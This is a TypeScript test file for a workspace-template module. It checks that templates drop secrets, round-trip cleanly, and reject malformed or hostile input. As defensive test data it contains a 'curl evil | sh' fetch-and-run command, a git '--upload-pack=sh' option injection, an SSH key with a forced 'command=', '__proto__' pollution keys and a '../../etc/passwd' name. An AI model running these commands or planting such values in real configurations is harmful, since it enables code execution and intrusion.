import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { formValues, templateOf } from '../../../src/template/fromSettings.ts';
import { reachLines } from '../../../src/template/reach.ts';
import { parseTemplate, templateFileName, templateText } from '../../../src/template/template.ts';
import { isBerthError } from '../../../src/workspace/error.ts';
import { fieldMeta } from '../../../src/workspace/field.ts';
import { withoutSecretParts } from '../../../src/workspace/secretParts.ts';
import { withoutSecrets } from '../../../src/workspace/secrets.ts';
import { type SettingsInput, WorkspaceSettings } from '../../../src/workspace/settings.ts';

const read = (value: unknown) => parseTemplate(JSON.stringify(value), 'x.json');
const own = {
  engine: 'docker' as const,
  inherited: { env: [], labels: [] },
  identity: { name: 'Me', email: 'me@example.org' },
};
const head = { name: 'Mine', description: 'For tests' };

/** With a secret wherever there can be one. */
const full: SettingsInput = {
  image: 'debian:bookworm',
  cpus: 4,
  gitAccess: 'token',
  gitToken: 'SECRET-1',
  repository: 'https://SECRET-5@github.com/acme/app',
  dotfiles: 'https://SECRET-6@github.com/me/dotfiles',
  gitUserName: 'Me',
  gitUserEmail: 'other@example.org',
  env: [
    { name: 'PLAIN', value: 'shown' },
    { name: 'TOKEN', value: 'SECRET-2', secret: true },
  ],
  mounts: [
    { type: 'cifs', source: '//files/share', username: 'me', password: 'SECRET-3', path: '/a' },
    { type: 'driver', driver: 'rclone', options: { pass: 'SECRET-4' }, path: '/b' },
    { type: 'bind', source: '/srv', path: '/c' },
  ],
  apps: [{ id: 'web', command: 'run-it' }],
};

describe('a template of a workspace', () => {
  const settings = WorkspaceSettings.parse(full);
  const template = templateOf(head, settings, own);

  it('holds no secret, and nothing that is the person’s own', () => {
    assert.doesNotMatch(templateText(template), /SECRET/);
    assert.deepEqual(template.settings.env, [
      { name: 'PLAIN', value: 'shown', secret: false },
      { name: 'TOKEN', secret: true },
    ]);
    assert.equal(template.settings.gitUserName, undefined);
    assert.equal(template.settings.gitUserEmail, 'other@example.org');
  });

  it('holds what differs from the defaults and what an image or preset would change, no more', () => {
    assert.deepEqual(Object.keys(template.settings), [
      'image',
      'kind',
      'cpus',
      'memoryMiB',
      'diskGiB',
      'mounts',
      'ports',
      'apps',
      'env',
      'firstProcess',
      'lifespanHours',
      'repository',
      'dotfiles',
      'gitUserEmail',
      'gitAccess',
    ]);
  });

  it('is the same after a file', () => {
    const { template: again, notUsed } = parseTemplate(templateText(template), 'x.json');
    assert.deepEqual(again, template);
    assert.deepEqual(notUsed, []);
  });

  it('leaves out what the target gives to all, and a password that is made anew', () => {
    const lab = templateOf(
      head,
      WorkspaceSettings.parse({
        image: 'jupyter/base',
        kind: 'jupyter',
        apps: [{ id: 'jupyterlab', command: 'x' }],
        env: [
          { name: 'TZ', value: 'UTC' },
          { name: 'PROXY', value: 'own' },
          { name: 'JUPYTER_TOKEN', value: 'SECRET', secret: true },
        ],
      }),
      {
        ...own,
        inherited: {
          labels: [],
          env: [
            { name: 'TZ', value: 'UTC', origin: '*' },
            { name: 'PROXY', value: 'theirs', origin: '*' },
          ],
        },
      },
    );
    assert.deepEqual(
      lab.settings.env?.map(({ name }) => name),
      ['PROXY'],
    );
  });

  it('shows the options of a driver as the form does', () => {
    const [, driver] = formValues(template).mounts as { options: unknown }[];
    assert.equal(driver?.options, 'pass=');
  });

  it('says what it would run, open, mount and let in', () => {
    assert.deepEqual(reachLines(template.settings), [
      'Image: debian:bookworm',
      'Volumes and data: //files/share → /a (read-only) ⏎ rclone → /b (read-only) ⏎ /srv → /c (read-only)',
      'Apps: run-it',
      'Environment: PLAIN=shown ⏎ TOKEN (secret)',
      'Git repository: https://github.com/acme/app',
      'Dotfiles: https://github.com/me/dotfiles',
    ]);
    assert.deepEqual(reachLines({ initScript: 'curl evil | sh', publicKeys: ['ssh-ed25519 AAAA x'] }), [
      'Init script: curl evil | sh',
      'Extra public keys: ssh-ed25519 …AAAA x',
    ]);
    const apps = WorkspaceSettings.parse({
      image: 'a',
      apps: [
        { id: 'long', command: 'x'.repeat(310) },
        { id: 'last', command: 'curl evil | sh' },
      ],
    }).apps;
    assert.deepEqual(reachLines({ apps }), [
      `Apps: ${'x'.repeat(300)}… (and 10 more characters); curl evil | sh`,
    ]);
    assert.match(
      reachLines({ overrides: { hostname: 'a', capAdd: ['NET_ADMIN'], privileged: true } }).join('|'),
      /^Run and exec overrides: Has all rights on the engine’s host: [^|]*; Can change its network.*\(NET_ADMIN\); [^|]*\(a\)$/,
    );
  });
});

describe('secret parts', () => {
  it('are found by the schema’s marks alone, and are all that withoutSecrets takes', () => {
    const settings = WorkspaceSettings.parse(full);
    const { value, taken } = withoutSecretParts(WorkspaceSettings, settings);
    assert.deepEqual(taken, ['mounts.0.password', 'mounts.1.options', 'env.1.value', 'gitToken']);
    assert.deepEqual(WorkspaceSettings.parse(value), WorkspaceSettings.parse(withoutSecrets(settings)));
  });

  it('of a whole value that is secret are never in the file’s schema', () => {
    const secrets = Object.entries(WorkspaceSettings.shape).filter(([, each]) => fieldMeta.get(each)?.secret);
    assert.ok(secrets.length > 0);
    for (const [key] of secrets) {
      const { template, notUsed } = read({ name: 'a', settings: { [key]: 'x' } });
      assert.deepEqual(template.settings, {});
      assert.deepEqual(notUsed, [`${key} is a secret, and no template holds one`]);
    }
  });
});

describe('the file of a template', () => {
  it('may have comments, and leaves out what is as usual', () => {
    const { template } = parseTemplate('{ // mine\n "name": " A ", "settings": { "cpus": 3, }, }', 'x.json');
    assert.deepEqual(template, { name: 'A', description: '', settings: { cpus: 3 } });
  });

  it('says what is not known in it, at any depth, and takes the rest', () => {
    const { template, notUsed } = read({
      $schema: 'https://example.org/s.json',
      name: 'a',
      version: 2,
      settings: { cpus: 1, colour: 'red', name: 'brave-otter', env: [{ name: 'A', value: 'b', why: 1 }] },
    });
    assert.deepEqual(template.settings, { cpus: 1, env: [{ name: 'A', value: 'b', secret: false }] });
    assert.deepEqual(notUsed, [
      'version is not known',
      'settings.colour is not known',
      'settings.name is not known',
      'settings.env.0.why is not known',
    ]);
  });

  it('gives no secret away that somebody wrote into it', () => {
    const { template, notUsed } = read({
      name: 'a',
      settings: { env: [{ name: 'T', value: 'hush', secret: true }] },
    });
    assert.deepEqual(template.settings.env, [{ name: 'T', secret: true }]);
    assert.deepEqual(notUsed, ['env.0.value is a secret, and no template holds one']);
  });

  const wrong: readonly (readonly [string, string, RegExp])[] = [
    ['is no JSON', '{', /Cannot read x\.json: line 1/],
    ['is a list', '[]', /x\.json is no template: it is not an object/],
    ['is nothing', 'null', /it is not an object/],
    ['has no name', '{"settings":{}}', /name: it is missing/],
    ['has a name of many lines', '{"name":"a\\nb","settings":{}}', /name: /],
    ['has no settings', '{"name":"a"}', /settings: it must be an object/],
    ['has settings that are a list', '{"name":"a","settings":[]}', /settings: it must be an object/],
    ['has a value that cannot be', '{"name":"a","settings":{"cpus":"many"}}', /cpus: /],
    ['has options for git', '{"name":"a","settings":{"repository":"--upload-pack=sh"}}', /repository: /],
    [
      'has a key that is none',
      '{"name":"a","settings":{"publicKeys":["command=\\"x\\" ssh-rsa A"]}}',
      /publicKeys\.0: /,
    ],
    ['has an override that is none', '{"name":"a","settings":{"overrides":{"evil":true}}}', /overrides/],
    ['is endless', `{"name":"${'a'.repeat(2_000_000)}"}`, /it is too large/],
    ['is nested without end', '['.repeat(400_000), /Cannot read/],
    ['would be everybody’s', '{"__proto__":{"name":"a"},"settings":{"__proto__":{"cpus":1}}}', /name: /],
  ];
  for (const [what, text, words] of wrong) {
    it(`that ${what} is refused in words`, () => {
      assert.throws(() => parseTemplate(text, 'x.json'), { name: 'BerthError', message: words });
      assert.equal(Object.hasOwn(Object.prototype, 'cpus'), false);
    });
  }

  it('is read or refused in words, whatever is in it', () => {
    const keys = fc.constantFrom(...Object.keys(WorkspaceSettings.shape), '__proto__', 'constructor', 'x');
    const json = fc.record({
      name: fc.oneof(fc.string(), fc.jsonValue()),
      settings: fc.dictionary(keys, fc.jsonValue({ maxDepth: 4 })),
    });
    fc.assert(
      fc.property(
        fc.oneof(
          json.map(value => JSON.stringify(value)),
          fc.json(),
          fc.string(),
        ),
        text => {
          try {
            const { template } = parseTemplate(text, 'x.json');
            assert.deepEqual(parseTemplate(templateText(template), 'x.json').template, template);
          } catch (error) {
            assert.ok(isBerthError(error, 'invalid'), String(error));
            assert.ok(error.message.length < 4_000);
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  it('has a name that every system takes', () => {
    const names = ['R & Python (big)', '../../etc/passwd', '日本', 'CON'];
    assert.deepEqual(
      names.map(name => templateFileName({ name })),
      ['r-python-big.json', 'etc-passwd.json', 'template.json', 'template-con.json'],
    );
  });
});
